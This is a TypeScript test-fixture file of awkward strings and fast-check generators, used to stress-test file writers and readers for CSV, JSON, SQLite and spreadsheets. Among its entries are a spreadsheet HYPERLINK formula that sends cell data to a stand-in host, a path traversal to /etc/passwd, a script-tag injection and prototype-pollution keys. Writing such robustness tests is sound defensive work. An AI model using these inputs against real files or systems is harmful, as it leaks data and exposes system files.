/** Texts that have broken writers and readers of files before. */
import fc from 'fast-check';

/** Each a trap of its own: for tables, JSON, SQLite, spreadsheets, terminals, object keys. */
export const AWKWARD_TEXTS: readonly string[] = [
  '',
  ' ',
  ' leading and trailing ',
  '\t',
  'one\ntwo',
  'one\r\ntwo',
  'one\rtwo',
  '\n',
  '\r\n',
  'line\u2028separator and paragraph\u2029separator',
  'a NUL \u0000 inside',
  '\u0001\u001b[31mred\u001b[0m\u007f\u0085',
  'lone high \ud800 and low \udc00 surrogates',
  '\udfff',
  '\u202eright to left\u202c \u2066isolated\u2069 עברית العربية',
  'zero\u200bwidth\u200djoiner\ufeffmark',
  '\ufeffa mark in front',
  'family \u{1F468}\u200d\u{1F469}\u200d\u{1F467} flag \u{1F1E9}\u{1F1EA} tone \u{1F44D}\u{1F3FD}',
  'e\u0301 is not \u00e9',
  '"',
  '""',
  '"quoted, with a comma"',
  "it's",
  'back\\slash \\n \\u0041 \\"',
  ',',
  ';',
  '|',
  'a,b\n"c",d',
  '=1+1',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
  '+1',
  '-1',
  '@SUM(A1)',
  "'=1",
  '＝1+1',
  'NaN',
  'nan',
  'None',
  'null',
  'true',
  'FALSE',
  'Infinity',
  '-0',
  '0123',
  '1e5',
  '5.049035242483195e-05',
  '{"messages": [{"role": "user", "content": "x"}]}',
  "[{'role': 'user', 'content': 'python'}]",
  '[1, 2',
  '{"a": NaN}',
  '<think>unclosed',
  '<think>a</think>b',
  '</think>',
  '<script>alert(1)</script>&amp;',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'UNCHANGED',
  'attachment://0123456789abcdef0123456789abcdef',
  '$1 $& $`',
  '%s %d',
  '../../etc/passwd',
  'x'.repeat(5_000),
  'wide 漢字 '.repeat(700),
];

const UNITS = [
  'a',
  'B',
  '7',
  ' ',
  '"',
  "'",
  ',',
  ';',
  '\\',
  '/',
  '\n',
  '\r',
  '\r\n',
  '\t',
  '\0',
  '=',
  '-',
  '@',
  '{',
  '}',
  '[',
  ']',
  ':',
  '<',
  '>',
  '&',
  '\ufeff',
  '\u2028',
  '\u202e',
  '\ud800',
  '\udc00',
  'é',
  '\u{1F600}',
] as const;

/** Any text; half of them are known traps. */
export const awkwardText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...AWKWARD_TEXTS) },
  { weight: 2, arbitrary: fc.string({ unit: fc.constantFrom(...UNITS), maxLength: 14 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string() },
);

/** Texts that a file in UTF-8 can hold: half a surrogate pair can't be written but as an escape. */
export const awkwardUtf8: fc.Arbitrary<string> = awkwardText.map((text) => text.toWellFormed());

/** As names that nobody leaves blank. */
export const awkwardName: fc.Arbitrary<string> = awkwardText.filter((text) => text.trim() !== '');

/**
 * As names of members in JSON. Without names of one character that is written as an escape: V8 of Node 24 reads such a
 * name as a backslash once it has seen an object with a member of that name (`{"a":1,"\u0001":2}` after `{"a":1,"\\":2}`).
 */
export const awkwardKey: fc.Arbitrary<string> = awkwardText.filter((text) => !/^[^\x20-\x7e]$/.test(text));
